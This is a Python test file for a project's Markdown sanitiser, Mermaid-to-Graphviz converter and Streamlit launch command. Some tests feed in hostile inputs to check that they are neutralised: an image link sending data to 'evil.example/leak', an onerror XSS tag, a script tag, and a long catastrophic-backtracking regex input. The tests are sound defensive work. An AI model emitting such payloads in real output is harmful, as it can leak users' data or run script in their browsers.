"""Safe rendering helpers and the `sdmock web` command line."""

from __future__ import annotations

import time

from app.cli.web import APP_ENTRY, streamlit_command
from app.ui.mermaid import mermaid_to_dot
from app.ui.render import format_minutes, looks_like_dot, looks_like_mermaid, safe_markdown


def test_images_are_neutralised() -> None:
    out = safe_markdown(
        "see ![secret](http://evil.example/leak?d=abc) and ![x][ref]\n\n[ref]: http://e/x.png"
    )
    assert "![" not in out
    assert "image removed: secret" in out
    assert "http://evil.example/leak" not in out


def test_html_is_escaped_outside_code_only() -> None:
    out = safe_markdown('<img src=x onerror="alert(1)"> <script>x</script> `a<b` done')
    assert "<img" not in out and "<script" not in out
    assert "&lt;img" in out
    assert "`a<b`" in out  # code spans are shown verbatim by Markdown anyway


def test_fenced_code_kept_and_latex_disabled() -> None:
    out = safe_markdown("costs $5 and $6\n```\nif a < b: pass\n```\n")
    assert "\\$5" in out and "\\$6" in out
    assert "if a < b: pass" in out


def test_plain_text_survives() -> None:
    assert safe_markdown("Hello, how many users?") == "Hello, how many users?"


def test_diagram_detection() -> None:
    assert looks_like_dot("digraph G { a -> b }")
    assert looks_like_dot("  strict graph { a -- b }")
    assert not looks_like_dot("graph TD\n A --> B")
    assert looks_like_mermaid("graph TD\n A --> B")
    dot = mermaid_to_dot("flowchart LR\n  A[Client] -->|HTTP| B(API)\n  B --> C[(DB)]")
    assert dot is not None and '"A" -> "B" [label="HTTP"]' in dot and 'label="Client"' in dot
    assert mermaid_to_dot("sequenceDiagram\n A->>B: hi") is None


def test_mermaid_shapes_chains_groups_and_link_styles() -> None:
    dot = mermaid_to_dot(
        "graph LR;\n"
        "  %% comment\n"
        "  client([Mobile app]) --> lb{{Load balancer}} --> api1[API] & api2[API 2]\n"
        '  api1 & api2 -- "cache miss" --> cache[(Redis)]\n'
        "  q[[Kafka]] <--> api2\n"
        "  api1 -.->|retry| q\n"
        "  api1 ==> cache\n"
        "  cache --- q\n"
        "  style cache fill:#f9f\n"
    )
    assert dot is not None and dot.startswith("digraph { rankdir=LR;")
    for line in (
        '"client" [label="Mobile app", shape=box, style="rounded"];',
        '"lb" [label="Load balancer", shape=hexagon];',
        '"cache" [label="Redis", shape=cylinder];',
        '"q" [label="Kafka", shape=box, peripheries=2];',
        '"client" -> "lb";',
        '"lb" -> "api1";',
        '"lb" -> "api2";',
        '"api1" -> "cache" [label="cache miss"];',
        '"api2" -> "cache" [label="cache miss"];',
        '"q" -> "api2" [dir=both];',
        '"api1" -> "q" [label="retry", style=dashed];',
        '"api1" -> "cache" [penwidth=2];',
        '"cache" -> "q" [dir=none];',
    ):
        assert line in dot, line
    assert "style" not in dot.replace('style="rounded"', "").replace("style=dashed", "")


def test_mermaid_subgraphs_become_nested_clusters() -> None:
    dot = mermaid_to_dot(
        "flowchart TD\n"
        "  subgraph storage [Storage tier]\n"
        "    db[(Primary)] -.-> replica[(Replica)]\n"
        "    subgraph cold\n"
        "      blob[/Blob store/]\n"
        "    end\n"
        "  end\n"
        "  api[API] --> db\n"
    )
    assert dot is not None
    lines = [ln.strip() for ln in dot.splitlines()]
    outer = lines.index('subgraph "cluster_1" { label="Storage tier";')
    inner = lines.index('subgraph "cluster_2" { label="cold";')
    assert outer < lines.index('"db" [label="Primary", shape=cylinder];') < inner
    assert inner < lines.index('"blob" [label="Blob store", shape=parallelogram];')
    assert lines.index('"api" [label="API", shape=box];') < outer, "declared outside every subgraph"
    assert dot.count("{") == dot.count("}")


def test_mermaid_labels_are_escaped_and_non_flowcharts_refused() -> None:
    dot = mermaid_to_dot('graph TD\n  a["say \\"hi\\"<br>twice"] --> b')
    assert dot is not None and r'label="say \\\"hi\\\"\ntwice"' in dot
    assert mermaid_to_dot("erDiagram\n  A ||--o{ B : has") is None
    assert mermaid_to_dot("graph TD\n") is None
    assert mermaid_to_dot("") is None


def test_format_minutes() -> None:
    assert format_minutes(12.5) == "12:30"
    assert format_minutes(-1) == "0:00"


def test_web_command_is_headless_without_telemetry() -> None:
    cmd = streamlit_command(8765, "127.0.0.1")
    assert cmd[1:4] == ["-m", "streamlit", "run"]
    assert str(APP_ENTRY) in cmd and APP_ENTRY.exists()
    flat = " ".join(cmd)
    assert "--server.headless true" in flat
    assert "--browser.gatherUsageStats false" in flat
    assert "--server.port 8765" in flat and "--server.address 127.0.0.1" in flat


def test_web_command_is_registered() -> None:
    from typer.testing import CliRunner

    from app.cli import cli

    result = CliRunner().invoke(cli, ["web", "--help"])
    assert result.exit_code == 0
    assert "--port" in result.output and "--host" in result.output


def test_mermaid_lines_parse_whole_or_not_at_all() -> None:
    dot = mermaid_to_dot(
        'graph TD\n  This is prose, not a statement\n  A["a]b"] -- "x y" --> B\n  A:::hot --> C'
    )
    assert dot is not None
    assert '"This"' not in dot and '"C"' not in dot, "half-parsed lines add nothing"
    assert '"A" [label="a]b", shape=box];' in dot and '"A" -> "B" [label="x y"];' in dot


def test_mermaid_link_text_cannot_backtrack_for_ever() -> None:
    """A line of spaces inside `A -- ... y` took 8 s at 1,000 spaces with the old pattern (cubic)."""
    from app.ui.mermaid import _statement

    started = time.perf_counter()
    for line in ("A --" + " " * 1000 + "y", "A -- " + "x " * 500 + "y", "A -- b" + " " * 1000 + "c"):
        assert _statement(line) is None
    assert time.perf_counter() - started < 1.0  # now well under a millisecond each
    long_line = "graph TD\nA --" + " " * 15000 + "y"
    assert mermaid_to_dot(long_line) is None
